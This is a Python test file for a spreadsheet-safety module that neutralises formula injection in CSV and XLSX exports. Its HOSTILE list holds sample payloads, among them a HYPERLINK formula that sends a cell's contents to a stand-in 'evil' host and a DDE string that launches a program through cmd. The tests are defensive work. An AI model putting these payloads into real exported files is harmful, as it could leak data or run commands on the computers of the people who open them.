"""The one rule that keeps exported text from running as a spreadsheet formula."""

from datetime import date
from io import BytesIO

import pytest
from openpyxl import Workbook

from korch_pwa.domain.spreadsheet_safety import csv_cell, is_formula_like, xlsx_append
from tests.xlsx_files import assert_no_formulas, sheet_cells

HOSTILE = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+66812345678", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "＝1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_each_leading_character_is_formula_like(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["  =1+1", " +1", "\n-1", " \t@x", "\u3000=1"])
def test_formula_sign_after_leading_whitespace_counts(text):
    assert is_formula_like(text)
    assert csv_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["นางสมใจ ทดสอบ", "กลุ่มออมทรัพย์", "081-234-5678", "1/2569",
                                  "a=b", "สมใจ-ทดสอบ", "", "   ", "'quoted", "#N/A"])
def test_normal_text_is_untouched(text):
    assert not is_formula_like(text)
    assert csv_cell(text) == text


@pytest.mark.parametrize("value", [0, -5, 3.5, -0.25, None, date(2026, 1, 15), True])
def test_numbers_and_other_values_are_untouched(value):
    assert not is_formula_like(value)
    assert csv_cell(value) == value


def test_xlsx_append_keeps_text_as_text_and_numbers_as_numbers():
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, HOSTILE + ["#N/A", "สมใจ"])
    xlsx_append(sheet, [])
    xlsx_append(sheet, [1, -2, 3.5, None, "=1+1"])
    out = BytesIO()
    book.save(out)
    data = out.getvalue()
    assert_no_formulas(data)
    cells = {c.coordinate: c for c in sheet_cells(data)}
    assert cells["A1"].value == HOSTILE[0] and cells["A1"].data_type == "s"
    assert cells["I1"].value == "#N/A" and cells["I1"].data_type == "s"
    assert [cells[f"{c}3"].value for c in "ABC"] == [1, -2, 3.5]
    assert all(cells[f"{c}3"].data_type == "n" for c in "ABC")
    assert cells["E3"].value == "=1+1" and cells["E3"].data_type == "s"
